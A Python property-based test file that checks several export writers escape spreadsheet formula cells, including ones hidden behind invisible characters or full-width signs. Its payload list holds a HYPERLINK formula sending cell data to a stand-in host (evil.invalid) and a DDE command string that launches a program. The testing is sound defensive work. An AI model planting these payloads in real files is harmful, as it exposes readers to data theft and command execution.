"""Cells a spreadsheet would run as formulas are escaped in every file we write, even
behind spaces, invisible characters or full-width signs (core.cells, one function)."""

import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from core.cells import is_formula, safe_cell
from reports import uploads
from research import exports
from sources import lists

#: What a spreadsheet skips or folds before it decides that a cell is a formula.
SKIPPED = [
    " ",
    "\u00a0",  # no-break space
    "\n",
    "\r",
    "\t",
    "\u200b",  # zero-width space
    "\u200c",
    "\u200d",
    "\u2060",  # word joiner
    "\ufeff",  # byte order mark
    "\u3000",  # ideographic space
    "\u2009",  # thin space
    "\u202f",
    "\u00ad",  # soft hyphen
]
FORMULA = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212"]
PAYLOADS = st.sampled_from(
    ['HYPERLINK("http://evil.invalid/?"&A1,"x")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", ""]
)
WRITERS = {
    "exports": exports.escape_cell,
    "pasted lists": lists._safe,
    "upload problems": uploads._safe,
}


def a_spreadsheet_runs(cell: str) -> bool:
    """A model of the spreadsheet, written apart from the code under test: it skips
    whitespace and invisible characters, folds full-width forms, and runs «=+-@»."""
    if cell.startswith("'"):
        return False
    for char in cell:
        if char in SKIPPED or char.isspace() or unicodedata.category(char) in ("Cf", "Cc"):
            continue
        return unicodedata.normalize("NFKC", char).replace("\u2212", "-")[:1] in "=+-@"
    return False


@given(
    padding=st.lists(st.sampled_from(SKIPPED), max_size=6).map("".join),
    sign=st.sampled_from(FORMULA),
    payload=PAYLOADS,
)
def test_a_formula_behind_anything_skipped_is_escaped_by_every_writer(padding, sign, payload):
    cell = padding + sign + payload
    assert a_spreadsheet_runs(cell)
    for name, escape in WRITERS.items():
        escaped = escape(cell)
        assert escaped == "'" + cell, name
        assert not a_spreadsheet_runs(escaped), name


@given(st.text(max_size=40))
def test_escaping_only_ever_adds_one_apostrophe_and_never_leaves_a_runnable_cell(text):
    escaped = safe_cell(text)
    assert escaped in (text, "'" + text)
    assert not a_spreadsheet_runs(escaped)
    assert safe_cell(escaped) == escaped  # escaping twice changes nothing more


@given(st.text(max_size=40))
def test_text_that_would_not_run_is_left_as_it_is(text):
    if not a_spreadsheet_runs(text) and not text.startswith(("\t", "\r", "\n")):
        assert safe_cell(text) == text


def test_the_reported_cells_are_escaped():
    for cell in (
        " =1+1",
        "\u00a0=1+1",
        "\n=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",
        " \u200b\ufeff＠SUM(A1)",
        "\t",
        "\r",
    ):
        assert is_formula(cell), repr(cell)
        assert exports.escape_cell(cell) == "'" + cell
    for cell in ("Иванов", "в/ч 12345", "2004-03-12", "a=b", "'=quoted", ""):
        assert exports.escape_cell(cell) == cell
    assert exports.escape_cell(-5) == "'-5"
    assert exports.escape_cell(None) == ""
